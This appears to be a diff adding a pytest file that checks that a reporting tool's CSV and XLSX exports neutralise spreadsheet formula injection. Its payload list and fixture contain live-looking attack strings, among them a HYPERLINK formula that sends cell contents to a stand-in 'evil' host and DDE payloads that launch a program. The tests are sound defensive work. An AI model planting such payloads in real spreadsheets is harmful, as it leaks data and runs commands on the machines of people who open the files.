@@ -1,0 +1,137 @@
+"""What hfspec writes for people to open is safe to open (issue 20): no cell of a CSV or XLSX file
+runs as a formula, whatever the data or the titles hold; a municipality named like math text is
+just text in the report's charts; generated YAML cannot be turned into other YAML by a value."""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+import zipfile
+from pathlib import Path
+from textwrap import dedent
+
+import openpyxl
+import pytest
+
+from hfspec.render.spreadsheet import csv_cell, runs_as_formula
+
+ROOT = Path(__file__).resolve().parent.parent
+DEMO = ROOT / "examples" / "demo" / "data"
+
+HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "\t=1+1", "\r=1+1"]
+#: Municipality names in the data (ingestion trims a cell, so a leading tab or CR never gets through).
+NAMES = HOSTILE[:4]
+#: Key-figure titles (kept as written).
+TITLES = ['=HYPERLINK("http://evil/","x")', "\t=1+1"]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory) -> tuple[Path, Path]:
+    """Demo data whose municipalities are formulas, and a catalogue whose titles are formulas."""
+    work = tmp_path_factory.mktemp("hostile")
+    data = work / "data"
+    shutil.copytree(DEMO, data)
+    rows = list(csv.reader((data / "borgere.csv").open(encoding="utf-8", newline="")))
+    names = {}
+    for row in rows[1:]:  # every municipality gets one of the formulas as its name
+        names.setdefault(row[1], NAMES[len(names) % len(NAMES)])
+        row[1] = names[row[1]]
+    with (data / "borgere.csv").open("w", encoding="utf-8", newline="") as out:
+        csv.writer(out).writerows(rows)
+    catalogue = work / "catalogue.yaml"
+    catalogue.write_text(dedent("""\
+        kind: Catalogue
+        id: k
+        title: "=1+1"
+        extends: national
+        select: [HF-P-01, HF-O-09]
+        override:
+          HF-P-01: {title: {da: "=HYPERLINK(\\"http://evil/\\",\\"x\\")", en: "@evil"}}
+          HF-O-09: {title: {da: "\\t=1+1", en: "\\t=1+1"}}
+        """), encoding="utf-8")
+    return catalogue, data
+
+
+def _no_formulas(path: Path) -> list[str]:
+    """Every cell text of a workbook, after checking that no sheet holds a formula and that every
+    text a spreadsheet would run carries the quote prefix."""
+    with zipfile.ZipFile(path) as book:
+        for name in book.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
+    texts = []
+    for ws in openpyxl.load_workbook(path).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
+                    if runs_as_formula(cell.value):
+                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
+    return texts
+
+
+def test_the_rule():
+    for text in HOSTILE:
+        assert runs_as_formula(text) and csv_cell(text) == "'" + text
+    for text in ("-3", "-12.5", "+4", "12,5", "Køge", "'quoted", " =1", "", "2021-Q3", ">= 80%"):
+        assert csv_cell(text) == text
+
+
+def test_eval_csv_neutralises_data_cells_and_titles(hostile, run_cli, tmp_path):
+    catalogue, data = hostile
+    code, _ = run_cli(["eval", catalogue, data, "--format", "csv", "--suppress-below", "0", "--out", tmp_path / "r.csv"])
+    assert code == 0
+    cells = [c for row in csv.reader((tmp_path / "r.csv").open(encoding="utf-8-sig", newline="")) for c in row]
+    assert not [c for c in cells if runs_as_formula(c)]
+    for text in NAMES + TITLES:  # every name and title is still there, readable, after a quote
+        assert "'" + text in cells
+
+
+def test_eval_xlsx_has_no_formula(hostile, run_cli, tmp_path):
+    catalogue, data = hostile
+    code, _ = run_cli(["eval", catalogue, data, "--format", "xlsx", "--suppress-below", "0", "--out", tmp_path / "r.xlsx"])
+    assert code == 0
+    texts = _no_formulas(tmp_path / "r.xlsx")
+    assert set(NAMES + TITLES) <= set(texts)  # shown exactly as they are (the quote prefix is a style, not text)
+
+
+def test_report_xlsx_has_no_formula(hostile, run_cli, tmp_path):
+    catalogue, data = hostile
+    code, output = run_cli(["report", catalogue, data, "--suppress-below", "0", "--out", tmp_path / "r.xlsx"])
+    assert code == 0, output
+    texts = _no_formulas(tmp_path / "r.xlsx")
+    assert "=HYPERLINK(\"http://evil/\",\"x\")" in texts
+
+
+def test_cream_outputs_have_no_formula(hostile, run_cli, tmp_path):
+    catalogue, _ = hostile
+    assert run_cli(["cream", catalogue, "--format", "xlsx", "--out", tmp_path / "w.xlsx"])[0] == 0
+    assert "=HYPERLINK(\"http://evil/\",\"x\")" in _no_formulas(tmp_path / "w.xlsx")
+    assert run_cli(["cream", catalogue, "--format", "csv", "--out", tmp_path / "w.csv"])[0] == 0
+    cells = [c for row in csv.reader(io.StringIO((tmp_path / "w.csv").read_text(encoding="utf-8"))) for c in row]
+    assert "'=HYPERLINK(\"http://evil/\",\"x\")" in cells and not [c for c in cells if runs_as_formula(c)]
+
+
+def test_control_characters_in_data_do_not_break_the_workbook(tmp_path, run_cli):
+    data = tmp_path / "data"
+    shutil.copytree(DEMO, data)
+    text = (data / "borgere.csv").read_text(encoding="utf-8")
+    (data / "borgere.csv").write_text(text.replace("Vejle", "Vej\x01le"), encoding="utf-8")
+    code, output = run_cli(["eval", ROOT / "catalog", data, "--format", "xlsx", "-i", "HF-P-01", "--suppress-below", "0", "--out", tmp_path / "r.xlsx"])
+    assert code == 0, output
+    assert "Vej\ufffdle" in _no_formulas(tmp_path / "r.xlsx")
+
+
+def test_a_math_text_municipality_is_plain_text_in_the_report(tmp_path, run_cli):
+    """`$\\frac{1}{$` crashed matplotlib's math-text parser; charts are SVG text now."""
+    data = tmp_path / "data"
+    shutil.copytree(DEMO, data)
+    text = (data / "borgere.csv").read_text(encoding="utf-8")
+    (data / "borgere.csv").write_text(text.replace("Vejle", "$\\frac{1}{$"), encoding="utf-8")
+    code, output = run_cli(["report", ROOT / "catalog", data, "--suppress-below", "0", "--out", tmp_path / "r.html"])
+    assert code == 0, output
+    page = (tmp_path / "r.html").read_text(encoding="utf-8")
+    assert "$\\frac{1}{$" in page and "<svg" in page
